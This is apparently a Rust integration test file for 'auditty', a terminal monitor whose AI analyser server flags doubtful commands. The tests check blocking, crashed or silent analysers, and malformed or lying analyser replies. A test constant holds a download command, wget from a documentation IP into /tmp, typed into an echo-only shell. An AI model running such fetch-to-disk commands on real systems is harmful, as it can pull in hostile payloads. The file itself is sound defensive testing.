//! An analyser server takes part: it can raise what the rules leave doubtful, and its absence
//! harms nobody.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Stdio};
use std::sync::mpsc::{Receiver, channel};

use tungstenite::Message;
use tungstenite::handshake::server::{ErrorResponse, Request, Response};

use crate::sandbox::{Sandbox, until};
use crate::terminal::Terminal;

const ENGINES: [&str; 5] = ["hybrid", "async", "threaded", "poll", "multiproc"];

/// Doubtful: the rules say something and do not block.
const DOUBTFUL: &str = "wget http://198.51.100.7/a -O /tmp/a";

/// A process that is ended, by its id, when the test is over.
struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A shell that reads lines and echoes them, so that nothing that is typed is run.
fn session(sandbox: &Sandbox, engine: &str, url: &str) -> Terminal {
    session_with(sandbox, engine, url, "1")
}

/// The same, with this many seconds for an answer.
fn session_with(sandbox: &Sandbox, engine: &str, url: &str, timeout: &str) -> Terminal {
    let script = "echo up; while read -r line; do echo \"line: $line\"; done";
    let mut command = sandbox.command(["run", "--engine", engine, "--", "sh", "-c", script]);
    command.env("AUDITTY_AI__ENABLED", "true");
    command.env("AUDITTY_AI__SERVER_URL", url);
    command.env("AUDITTY_AI__ANALYSIS_TIMEOUT", timeout);
    let mut terminal = Terminal::start(command);
    terminal.expect("up");
    terminal
}

/// A language model's service that finds everything dangerous.
fn alarmed_model() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || listener.incoming().flatten().for_each(alarm));
    format!("http://{address}/v1/messages")
}

/// One that reads what it is asked and never answers; says so when it was asked.
fn silent_model() -> (String, Receiver<TcpStream>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let (sender, asked) = channel();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            read_request(&mut stream);
            if sender.send(stream).is_err() {
                return;
            }
        }
    });
    (format!("http://{address}/v1/messages"), asked)
}

fn read_request(stream: &mut TcpStream) {
    let mut reader = BufReader::new(stream);
    let mut length = 0;
    let mut line = String::new();
    while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
        line.clear();
    }
    reader.read_exact(&mut vec![0; length]).unwrap();
}

fn alarm(mut stream: TcpStream) {
    read_request(&mut stream);
    let text = r#"{\"score\":0.95,\"label\":\"download_exec\",\"reason\":\"told_so\"}"#;
    let body = format!(r#"{{"content":[{{"type":"text","text":"{text}"}}]}}"#);
    let head =
        format!("HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: {}\r\n\r\n", body.len());
    stream.write_all((head + &body).as_bytes()).unwrap();
}

/// `auditty analyze` in front of a model, listening there, and its address.
fn analyser_at(sandbox: &Sandbox, listen: &str, model: &str) -> (Server, String) {
    let args = ["analyze", "--listen", listen, "--backend", "llm", "--llm-url", model];
    let mut command = sandbox.command(args);
    command.args(["--llm-model", "stand-in", "--llm-timeout", "600"]).stdout(Stdio::piped());
    let mut server = Server(command.spawn().unwrap());
    let mut line = String::new();
    BufReader::new(server.0.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let url = line.trim().strip_prefix("listening on ").expect("an address").to_owned();
    (server, url)
}

/// `auditty analyze` in front of a model that finds everything dangerous.
fn analyser(sandbox: &Sandbox) -> (Server, String) {
    analyser_at(sandbox, "127.0.0.1:0", &alarmed_model())
}

/// Waits until the journal of the sandbox's session holds `text` in what the monitor told.
fn await_told(sandbox: &Sandbox, text: &str) {
    let id = sandbox.sessions().remove(0);
    until(&format!("the journal says `{text}`"), || {
        let journal = sandbox.run(["export", &id, "--format", "jsonl"]).text();
        journal.lines().any(|line| line.contains("analyser.away") && line.contains(text))
    });
}

/// The session does what it did before.
fn check_unharmed(terminal: &mut Terminal, what: &str) {
    terminal.type_in("after\r");
    terminal.expect("line: after");
    assert!(!terminal.shown().contains("session blocked"), "{what}");
}

#[test]
fn an_analyser_raises_what_the_rules_leave_doubtful() {
    for engine in ENGINES {
        let sandbox = Sandbox::new();
        let (_server, url) = analyser(&sandbox);
        let mut terminal = session(&sandbox, engine, &url);
        terminal.type_in(&format!("{DOUBTFUL}\r"));
        terminal.expect("session blocked");
        let ran = sandbox.run(["ctl", "reject"]);
        assert_eq!(ran.status, 0, "{engine}: {ran:?}");
        assert_eq!(terminal.finish().0, 77, "{engine}");
    }
}

#[test]
fn an_analyser_that_is_killed_or_never_answers_harms_nobody_and_the_journal_says_so() {
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let silent = format!("ws://{}/ai", silent.local_addr().unwrap());
    for engine in ENGINES {
        for url in [None, Some(&silent)] {
            let sandbox = Sandbox::new();
            let url = url.cloned().unwrap_or_else(|| {
                let (mut server, url) = analyser(&sandbox);
                server.0.kill().unwrap();
                server.0.wait().unwrap();
                url
            });
            let mut terminal = session(&sandbox, engine, &url);
            terminal.type_in(&format!("{DOUBTFUL}\r"));
            terminal.expect("line: wget");
            let id = sandbox.sessions().remove(0);
            until("the journal says that nobody answered", || {
                let ran = sandbox.run(["export", &id, "--format", "jsonl"]);
                String::from_utf8_lossy(&ran.stdout).contains("analyser.away")
            });
            terminal.type_in("after\r");
            terminal.expect("line: after");
            terminal.type_in("\u{4}");
            assert_eq!(terminal.finish().0, 0, "{engine}");
        }
    }
}

#[test]
fn an_analyser_that_is_killed_over_a_question_is_told_of_and_another_takes_its_place() {
    for engine in ENGINES {
        let sandbox = Sandbox::new();
        let (model, asked) = silent_model();
        let (mut server, url) = analyser_at(&sandbox, "127.0.0.1:0", &model);
        // Nobody waits this long: what is told is told because the server died.
        let mut terminal = session_with(&sandbox, engine, &url, "3600");
        terminal.type_in(&format!("{DOUBTFUL}\r"));
        terminal.expect("line: wget");
        let question = asked.recv().expect("the question is on its way");
        server.0.kill().unwrap();
        server.0.wait().unwrap();
        await_told(&sandbox, "the analyser gave no answer that counts");
        drop(question);
        check_unharmed(&mut terminal, engine);
        let address = url.strip_prefix("ws://").and_then(|u| u.strip_suffix("/ai")).unwrap();
        let (_server, again) = analyser_at(&sandbox, address, &alarmed_model());
        assert_eq!(again, url);
        terminal.type_in(&format!("{DOUBTFUL}.again\r"));
        terminal.expect("session blocked");
        assert_eq!(sandbox.run(["ctl", "reject"]).status, 0, "{engine}");
        assert_eq!(terminal.finish().0, 77, "{engine}");
    }
}

/// How an analyser may misbehave, and a word of what the journal says of it.
const LIES: [(&str, &str); 10] = [
    ("garbage", "not an answer"),
    ("large", "too long"),
    ("version", "version 2 instead of"),
    ("score", "score 7 is not in"),
    ("nan", "not an answer"),
    ("session", "answer for another session"),
    ("question", "answer to question 99"),
    ("binary", "binary message"),
    ("hang up", "analyser.away"),
    ("silence", "no answer in time"),
];

/// An analyser that shakes hands and then misbehaves so.
fn liar(lie: &'static str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("ws://{}/ai", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let Ok(mut socket) = tungstenite::accept_hdr(stream, admit) else { continue };
            while let Ok(Message::Text(question)) = socket.read() {
                let Some(answer) = lying(lie, &question) else { break };
                // A message that is refused is not read to its end.
                let _ = socket.send(answer);
            }
        }
    });
    url
}

#[expect(clippy::result_large_err, clippy::unnecessary_wraps, reason = "the handshake's own type")]
fn admit(_: &Request, mut response: Response) -> Result<Response, ErrorResponse> {
    let name = "auditty.ai.v1".parse().unwrap();
    response.headers_mut().insert("Sec-WebSocket-Protocol", name);
    Ok(response)
}

/// The answer of a liar to a question; `None` hangs up.
fn lying(lie: &str, question: &str) -> Option<Message> {
    let question: serde_json::Value = serde_json::from_str(question).unwrap();
    let mut answer = serde_json::json!({
        "t": "analysis", "v": 1, "req_id": question["req_id"], "session": question["session"],
        "score": 0.99, "label": "reverse_shell", "model": "liar", "suggested_action": "block",
    });
    match lie {
        "garbage" => return Some(Message::text("}{\u{1b}[2J\0")),
        "large" => return Some(Message::text("x".repeat(100 << 20))),
        "binary" => return Some(Message::binary(answer.to_string().into_bytes())),
        "nan" => {
            return Some(Message::text(answer.to_string().replace("0.99", "NaN")));
        }
        "version" => answer["v"] = 2.into(),
        "score" => answer["score"] = 7.into(),
        "session" => answer["session"] = "0193b0f4-0000-7000-8000-000000000000".into(),
        "question" => answer["req_id"] = 99.into(),
        "hang up" => return None,
        _ => std::thread::park(),
    }
    Some(Message::text(answer.to_string()))
}

#[test]
fn an_analyser_that_lies_is_refused_the_journal_says_so_and_the_session_is_unharmed() {
    std::thread::scope(|scope| {
        for engine in ENGINES {
            scope.spawn(move || LIES.iter().for_each(|(lie, told)| check_lie(engine, lie, told)));
        }
    });
}

fn check_lie(engine: &str, lie: &'static str, told: &str) {
    let what = format!("{engine}: {lie}");
    let sandbox = Sandbox::new();
    let timeout = if lie == "silence" { "0.5" } else { "60" };
    let mut terminal = session_with(&sandbox, engine, &liar(lie), timeout);
    terminal.type_in(&format!("{DOUBTFUL}\r"));
    terminal.expect("line: wget");
    await_told(&sandbox, told);
    check_unharmed(&mut terminal, &what);
    terminal.type_in("\u{4}");
    assert_eq!(terminal.finish().0, 0, "{what}");
    let id = sandbox.sessions().remove(0);
    assert_eq!(sandbox.run(["verify", &id]).status, 0, "{what}");
}
